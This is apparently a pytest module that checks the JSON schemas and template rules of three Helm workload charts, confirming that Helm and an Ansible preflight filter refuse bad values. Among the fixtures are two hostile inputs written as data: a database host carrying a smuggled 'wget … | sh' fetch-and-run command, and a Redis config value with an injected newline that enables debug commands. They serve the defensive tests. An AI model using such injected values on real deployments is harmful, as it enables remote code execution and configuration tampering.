"""The workload charts' values.schema.json (issue #26, "chart values we own"): Helm itself, with the real binary,
refuses a misspelt key at every level of the chart's own mappings, a value of the wrong type and one out of range, on
top of each chart's values-production.yaml, and takes the shipped values files; every mapping the chart owns is closed
and every open one says why; the rules the templates refuse with `fail` are the ones the preflight mirrors
(plugins/filter/chart_values_errors.py), sentence for sentence."""

from __future__ import annotations

import json
import re

import jsonschema
import pytest
import yaml
from chartlib import VALUES_FILES, template_with

from ansible_collections.triptrip.platform.plugins.filter.chart_values_errors import chart_values_errors

CHARTS = ["triptrip-api", "triptrip-redis", "triptrip-workers"]

# chart -> (case, values over values-production.yaml, what helm's error says): a misspelt key at several levels, a
# wrong type, a value out of range, and a malformed one of each chart.
REFUSED = {
    "triptrip-api": [
        ("misspelt-top-level-key", {"replicaCont": 6}, "at '': additional properties 'replicaCont' not allowed"),
        ("misspelt-nested-key", {"autoscaling": {"maxReplica": 50}},
         "at '/autoscaling': additional properties 'maxReplica' not allowed"),
        ("misspelt-third-level-key", {"initContainers": {"waitForDb": {"prot": 5433}}},
         "at '/initContainers/waitForDb': additional properties 'prot' not allowed"),
        ("misspelt-resources-key", {"resources": {"limtis": {"cpu": "1"}}},
         "at '/resources': additional properties 'limtis' not allowed"),
        ("wrong-type-unquoted-tag", {"image": {"tag": 1.1}}, "at '/image/tag': got number, want string"),
        ("wrong-type-quoted-count", {"replicaCount": "3"}, "at '/replicaCount': got string, want integer"),
        ("wrong-type-label-boolean", {"podLabels": {"canary": True}}, "at '/podLabels/canary'"),
        ("out-of-range-port", {"service": {"port": 70000}}, "at '/service/port': maximum: got 70,000, want 65,535"),
        ("out-of-range-replicas", {"replicaCount": 0}, "at '/replicaCount': minimum: got 0, want 1"),
        ("out-of-range-utilization", {"autoscaling": {"targetCPUUtilizationPercentage": 700}},
         "at '/autoscaling/targetCPUUtilizationPercentage': maximum: got 700, want 100"),
        ("out-of-range-budget", {"podDisruptionBudget": {"minAvailable": "100%"}},
         "at '/podDisruptionBudget/minAvailable'"),
        ("malformed-quantity", {"resources": {"requests": {"cpu": "half"}}}, "at '/resources/requests/cpu'"),
        ("shell-in-database-host", {"initContainers": {"waitForDb": {"host": "db; wget -O- x | sh"}}},
         "at '/initContainers/waitForDb/host'"),
        ("null-removing-a-needed-default", {"autoscaling": None}, "at '': missing property 'autoscaling'"),
    ],
    "triptrip-redis": [
        ("misspelt-top-level-key", {"replica": 6}, "at '': additional properties 'replica' not allowed"),
        ("misspelt-nested-key", {"persistence": {"sise": "100Gi"}},
         "at '/persistence': additional properties 'sise' not allowed"),
        ("misspelt-list-item-key", {"networkPolicy": {"clients": [{"namspace": "triptrip-api"}]}},
         "at '/networkPolicy/clients/0': additional properties 'namspace' not allowed"),
        ("wrong-type-unquoted-yes", {"config": {"appendonly": True}}, "at '/config/appendonly'"),
        ("wrong-type-quoted-count", {"replicas": "6"}, "at '/replicas': got string, want integer"),
        ("out-of-range-replicas", {"replicas": 2}, "at '/replicas': minimum: got 2, want 3"),
        ("out-of-range-port", {"service": {"clusterBusPort": 0}},
         "at '/service/clusterBusPort': minimum: got 0, want 1"),
        ("out-of-range-budget", {"podDisruptionBudget": {"maxUnavailable": 0}},
         "at '/podDisruptionBudget/maxUnavailable'"),
        ("config-line-break", {"config": {"maxmemory": "3gb\nenable-debug-command yes"}}, "at '/config/maxmemory'"),
        ("config-port-directive", {"config": {"port": 7000}}, "invalid propertyName 'port'"),
        ("malformed-size", {"persistence": {"size": "50 GB"}}, "at '/persistence/size'"),
    ],
    "triptrip-workers": [
        ("misspelt-top-level-key", {"conections": {}}, "at '': additional properties 'conections' not allowed"),
        ("misspelt-nested-key", {"queueWorker": {"replicaCont": 3}},
         "at '/queueWorker': additional properties 'replicaCont' not allowed"),
        ("misspelt-third-level-key", {"queueWorker": {"podDisruptionBudget": {"maxUnavailble": "50%"}}},
         "at '/queueWorker/podDisruptionBudget': additional properties 'maxUnavailble' not allowed"),
        ("wrong-type-toleration-value", {"queueWorker": {"tolerations": [{"key": "spot", "value": True}]}},
         "at '/queueWorker/tolerations/0/value': got boolean, want string"),
        ("wrong-type-env-value", {"queueWorker": {"extraEnv": [{"name": "BATCH", "value": 10}]}},
         "at '/queueWorker/extraEnv/0/value': got number, want string"),
        ("out-of-range-port", {"queueWorker": {"healthPort": 80800}}, "at '/queueWorker/healthPort': maximum"),
        ("out-of-range-budget", {"queueWorker": {"podDisruptionBudget": {"maxUnavailable": "0%"}}},
         "at '/queueWorker/podDisruptionBudget/maxUnavailable'"),
        ("malformed-cidr", {"connections": {"aws": {"cidrs": ["10.0.0.0/33"]}}}, "at '/connections/aws/cidrs/0'"),
        ("broker-without-peer", {"connections": {"kafka": [{"host": "kafka", "port": 9092}]}},
         "at '/connections/kafka/0'"),
    ],
}
REFUSED_CASES = [(chart, *case) for chart, cases in REFUSED.items() for case in cases]

# The templates' rules (chart, profile, values over it, the sentence both helm and the preflight give), and values at
# their limits that both take.
RULES = [
    ("triptrip-api", "production", {"autoscaling": {"maxReplicas": 3}},
     "autoscaling.minReplicas=5 is above autoscaling.maxReplicas=3: the API server refuses such a "
     "HorizontalPodAutoscaler"),
    ("triptrip-api", "production", {"podDisruptionBudget": {"minAvailable": 5}},
     "podDisruptionBudget.minAvailable=5 is not below autoscaling.minReplicas=5: the budget would let no pod be "
     "evicted, and every node drain would stall"),
    ("triptrip-api", "",
     {"autoscaling": {"enabled": False}, "replicaCount": 1, "podDisruptionBudget": {"minAvailable": 1}},
     "podDisruptionBudget.minAvailable=1 is not below replicaCount=1: the budget would let no pod be evicted, and "
     "every node drain would stall"),
    ("triptrip-api", "production", {"podDisruptionBudget": {"maxUnavailable": 1}},
     "podDisruptionBudget: set minAvailable or maxUnavailable, not both"),
    ("triptrip-api", "staging", {"podDisruptionBudget": {"minAvailable": ""}},
     "podDisruptionBudget: minAvailable or maxUnavailable is required"),
    ("triptrip-api", "production", {"externalSecrets": {"secrets": []}},
     "externalSecrets.enabled needs externalSecrets.secrets or externalSecrets.data"),
    ("triptrip-redis", "production", {"replicas": 5}, "replicas=5 is not a multiple of 1 + clusterReplicas (2)"),
    ("triptrip-redis", "staging", {"replicas": 4}, "replicas=4 gives 2 primaries; Redis Cluster needs at least 3"),
    ("triptrip-redis", "", {"replicas": 3, "clusterReplicas": 0},
     "clusterReplicas=0 leaves no replica to fail over to; a disruption budget cannot keep such a cluster up"),
    ("triptrip-redis", "production", {"podDisruptionBudget": {"maxUnavailable": 2}},
     "podDisruptionBudget.maxUnavailable=2 is above clusterReplicas=1: a drain could take a primary and all its "
     "replicas at once"),
    ("triptrip-workers", "production", {"queueWorker": {"image": {"tag": "latest"}}},
     'queueWorker.image.tag="latest" must name a release, not latest or nothing'),
    ("triptrip-workers", "staging", {"queueWorker": {"image": {"tag": ""}}},
     'queueWorker.image.tag="" must name a release, not latest or nothing'),
]
AT_THE_LIMIT = [
    ("triptrip-api", "production", {"autoscaling": {"minReplicas": 100}, "podDisruptionBudget": {"minAvailable": 99}}),
    ("triptrip-api", "",
     {"autoscaling": {"enabled": False}, "replicaCount": 3, "podDisruptionBudget": {"minAvailable": 2}}),
    ("triptrip-api", "production", {"podDisruptionBudget": {"minAvailable": "", "maxUnavailable": 1}}),
    ("triptrip-redis", "production",
     {"replicas": 9, "clusterReplicas": 2, "podDisruptionBudget": {"maxUnavailable": 2}}),
    ("triptrip-redis", "", {"replicas": 3, "clusterReplicas": 0, "podDisruptionBudget": {"enabled": False}}),
    ("triptrip-workers", "production", {"queueWorker": {"image": {"tag": "1.0.1"}}}),
]


def schema(root, chart):
    return json.loads((root / "charts" / chart / "values.schema.json").read_text())


def profile_file(profile):
    return f"values-{profile}.yaml" if profile else "values.yaml"


@pytest.mark.parametrize(("chart", "case", "values", "says"), REFUSED_CASES,
                         ids=[f"{chart}-{case}" for chart, case, *_rest in REFUSED_CASES])
def test_helm_refuses_a_misspelt_key_a_wrong_type_and_a_value_out_of_range(helm, tmp_path, chart, case, values, says):
    result = template_with(helm, f"charts/{chart}", "values-production.yaml", values, tmp_path)
    assert result.returncode != 0, f"{case}: helm took it"
    assert "values don't meet the specifications of the schema" in result.stderr, result.stderr
    assert says in result.stderr, result.stderr


@pytest.mark.parametrize("chart", CHARTS)
@pytest.mark.parametrize("values_file", VALUES_FILES)
def test_the_shipped_values_files_pass_the_schema(helm, chart, values_file):
    result = helm("lint", "--strict", f"charts/{chart}", "-f", f"charts/{chart}/{values_file}")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "0 chart(s) failed" in result.stdout


@pytest.mark.parametrize("chart", CHARTS)
def test_every_shipped_value_is_declared(root, chart):
    """additionalProperties false rejects an undeclared key; this says which key, should a values file gain one."""
    validator = jsonschema.Draft7Validator(schema(root, chart))
    for values_file in VALUES_FILES:
        values = yaml.safe_load((root / "charts" / chart / values_file).read_text())
        # Every key of a values file on its own (required keys aside: a profile file holds only what differs).
        errors = [e for e in validator.iter_errors(values) if e.validator != "required"]
        assert errors == [], [(list(e.absolute_path), e.message) for e in errors]


@pytest.mark.parametrize("chart", CHARTS)
def test_the_schema_is_draft_07_and_closed_wherever_the_chart_owns_the_mapping(root, chart):
    document = schema(root, chart)
    assert document["$schema"] == "http://json-schema.org/draft-07/schema#"
    jsonschema.Draft7Validator.check_schema(document)
    open_without_reason = []

    def walk(node, path, reason):
        if not isinstance(node, dict):
            return
        if node.get("type") == "object" and "properties" in node:
            assert node.get("additionalProperties") is False, f"{path} lists its keys but takes others"
        elif (node.get("type") == "object" and "additionalProperties" not in node
              and not (reason or node.get("description"))):
            open_without_reason.append(path)
        for key, child in node.items():
            if key in ("properties", "definitions"):
                for name, sub in child.items():
                    walk(sub, f"{path}.{name}", False)
            elif key in ("items", "additionalProperties", "then", "not"):
                walk(child, f"{path}[{key}]", bool(node.get("description")))
            elif key in ("anyOf", "allOf", "oneOf"):
                for index, sub in enumerate(child):
                    walk(sub, f"{path}[{key}{index}]", bool(node.get("description")))

    walk(document, "", False)
    assert open_without_reason == [], "open mappings need a description saying why"


@pytest.mark.parametrize("chart", CHARTS)
def test_patterns_are_ones_helm_s_go_regexp_can_read(root, chart):
    """Helm compiles the patterns with Go's RE2: no lookaround and no backreferences, which Python would take."""
    text = (root / "charts" / chart / "values.schema.json").read_text()
    patterns = re.findall(r'"pattern": "((?:[^"\\]|\\.)*)"', text)
    assert patterns
    assert [p for p in patterns if re.search(r"\(\?[=!<]|\\\\[1-9]", p)] == []


def test_the_three_schemas_define_their_shared_shapes_alike(root):
    """The charts are packaged apart, so each carries its definitions; a shape they share is one shape."""
    definitions = {chart: schema(root, chart)["definitions"] for chart in CHARTS}
    names = set.union(*(set(d) for d in definitions.values()))
    for name in sorted(names):
        shapes = {json.dumps(d[name], sort_keys=True) for d in definitions.values() if name in d}
        assert len(shapes) == 1, f"definition {name} differs between the charts"


@pytest.mark.parametrize(("chart", "profile", "values", "sentence"), RULES, ids=[r[3].split(" ")[0] for r in RULES])
def test_helm_and_the_preflight_refuse_the_templates_rules_in_the_same_words(
        root, helm, tmp_path, chart, profile, values, sentence):
    result = template_with(helm, f"charts/{chart}", profile_file(profile), values, tmp_path)
    assert result.returncode != 0
    assert sentence in result.stderr, result.stderr
    under = "values.yaml" + (f", values-{profile}.yaml" if profile else "")
    assert chart_values_errors({"w": {"chart": chart, "values": values}}, str(root / "charts"), profile) == [
        f"platform_workloads.w.values: {sentence} (over charts/{chart}/{under})"]


@pytest.mark.parametrize(("chart", "profile", "values"), AT_THE_LIMIT)
def test_helm_and_the_preflight_take_values_at_the_rules_limits(root, helm, tmp_path, chart, profile, values):
    result = template_with(helm, f"charts/{chart}", profile_file(profile), values, tmp_path)
    assert result.returncode == 0, result.stderr
    assert chart_values_errors({"w": {"chart": chart, "values": values}}, str(root / "charts"), profile) == []
